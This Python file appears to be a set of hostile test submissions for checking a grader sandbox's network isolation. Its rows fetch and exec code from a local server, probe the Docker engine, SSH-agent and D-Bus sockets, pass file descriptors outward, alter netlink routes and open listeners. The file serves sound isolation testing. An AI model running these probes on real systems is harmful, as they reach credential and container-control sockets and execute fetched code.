"""Connections to the host and beyond it, with sockets of every family.

The addresses outside are those that are kept for documentation, which belong to nobody.
"""

from hostile.making import answered, beside_right
from hostile.row import ALL, FILES, GRADER, NETWORK, NOTHING, Hostile

FAMILY = "network and local sockets"


def fetched(release):
    """All four answers come from the network."""
    source = """
import urllib.request

with urllib.request.urlopen("http://127.0.0.1:50017/{name}.py", timeout=5) as page:
    exec(page.read())
"""
    names = ("minibatches", "minibatch_step", "MiniBatchRegressor", "RepairedRegressor")
    return answered(release, **{name: source.replace("{name}", name) for name in names})


def row(name, tries, source, unharmed=(NETWORK,)):
    """A row with all right and one cell that uses sockets."""
    return Hostile(name, FAMILY, tries, beside_right(source), ALL, unharmed)


ROWS = (
    Hostile(
        name="socket-fetches-answers",
        family=FAMILY,
        tries="Fetches its answers from a server on this host.",
        notebook=fetched,
        deserves=NOTHING,
        unharmed=(NETWORK,),
    ),
    row(
        "socket-tcp",
        "Connects by TCP to this host and beyond it.",
        """
        import contextlib
        import socket

        for host in ("127.0.0.1", "localhost", socket.gethostname(), "192.0.2.1", "0.0.0.0"):
            with contextlib.suppress(OSError):
                with socket.create_connection((host, 50017), timeout=2) as connection:
                    connection.sendall(b"mbgd-hostile-was-here")
        """,
    ),
    row(
        "socket-tcp6",
        "Connects by TCP over IPv6, also to IPv4 addresses written as IPv6.",
        """
        import contextlib
        import socket

        for host in ("::1", "::ffff:127.0.0.1", "2001:db8::1", "ff02::1"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with contextlib.suppress(OSError):
                    with socket.socket(socket.AF_INET6, kind) as connection:
                        connection.settimeout(2)
                        connection.connect((host, 50017))
                        connection.sendall(b"mbgd-hostile-was-here")
        """,
    ),
    row(
        "socket-udp",
        "Sends datagrams, broadcasts and questions to name servers.",
        """
        import contextlib
        import socket

        with contextlib.suppress(OSError):
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            for host in ("127.0.0.1", "255.255.255.255", "192.0.2.1"):
                with contextlib.suppress(OSError):
                    sender.sendto(b"mbgd-hostile-was-here", (host, 50017))
        with contextlib.suppress(OSError):
            socket.getaddrinfo("mbgd-hostile-was-here.invalid", 80)
        """,
    ),
    row(
        "socket-raw",
        "Opens raw and packet sockets.",
        """
        import contextlib
        import socket

        for family, kind, protocol in (
            (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
        ):
            with contextlib.suppress(OSError):
                raw = socket.socket(family, kind, protocol)
                raw.settimeout(2)
                raw.sendto(b"mbgd-hostile-was-here", ("127.0.0.1", 0))
                print(raw.recv(100))
        """,
    ),
    row(
        "socket-unix-path",
        "Connects to sockets that are files: a listener's, the container engine's, the agent's.",
        """
        import contextlib
        import os
        import socket

        agent = os.environ.get("SSH_AUTH_SOCK", "/tmp/mbgd-hostile-listener")
        bus = "/run/dbus/system_bus_socket"
        for path in ("/tmp/mbgd-hostile-listener", "/var/run/docker.sock", agent, bus):
            with contextlib.suppress(OSError):
                with socket.socket(socket.AF_UNIX) as connection:
                    connection.settimeout(2)
                    connection.connect(path)
                    print("connected to", path)
        """,
    ),
    row(
        "socket-unix-abstract",
        "Connects to an abstract socket, which no file system hides.",
        """
        import contextlib
        import socket

        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError):
                with socket.socket(socket.AF_UNIX, kind) as connection:
                    connection.settimeout(2)
                    connection.connect("\\0mbgd-hostile-listener")
                    connection.sendall(b"mbgd-hostile-was-here")
        """,
    ),
    row(
        "socket-passes-files",
        "Sends its open files to an abstract socket outside.",
        """
        import contextlib
        import socket

        with contextlib.suppress(OSError):
            with socket.socket(socket.AF_UNIX) as connection, open("/etc/hostname") as file:
                connection.connect("\\0mbgd-hostile-listener")
                socket.send_fds(connection, [b"mbgd-hostile-was-here"], [file.fileno()])
        """,
    ),
    row(
        "socket-netlink",
        "Asks the kernel for interfaces and routes, and tries to set one up.",
        """
        import contextlib
        import socket
        import struct

        with contextlib.suppress(OSError):
            netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            netlink.settimeout(2)
            netlink.bind((0, 0))
            for kind in (18, 22, 26):
                netlink.send(struct.pack("=IHHIIBxxx", 20, kind, 0x301, 1, 0, 0))
                print(len(netlink.recv(65_536)))
            link_up = struct.pack("=IHHII", 32, 16, 5, 2, 0) + struct.pack("=BxHiII", 0, 0, 1, 1, 1)
            netlink.send(link_up)
        """,
        (NETWORK, GRADER),
    ),
    row(
        "socket-vsock",
        "Connects to the host of a virtual machine.",
        """
        import contextlib
        import socket

        for number in (0, 1, 2, 3):
            with contextlib.suppress(OSError):
                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
                    connection.settimeout(2)
                    connection.connect((number, 50017))
        """,
    ),
    row(
        "socket-every-family",
        "Opens a socket of every family, kind and protocol that the system names.",
        """
        import contextlib
        import socket

        opened = []
        for family in range(1, 46):
            for kind in (1, 2, 3, 4, 5, 6):
                with contextlib.suppress(OSError, ValueError):
                    socket.socket(family, kind, 0).close()
                    opened.append((family, kind))
        print(opened)
        """,
    ),
    row(
        "socket-listens",
        "Waits for connections on every address, and leaves a socket file behind.",
        """
        import contextlib
        import socket

        kept = []
        for family, address in (
            (socket.AF_INET, ("0.0.0.0", 50018)),
            (socket.AF_INET6, ("::", 50018)),
            (socket.AF_UNIX, "/tmp/mbgd-hostile-was-here"),
            (socket.AF_UNIX, "\\0mbgd-hostile-was-here"),
        ):
            with contextlib.suppress(OSError):
                listener = socket.socket(family)
                listener.bind(address)
                listener.listen()
                kept.append(listener)
        """,
        (NETWORK, FILES),
    ),
)
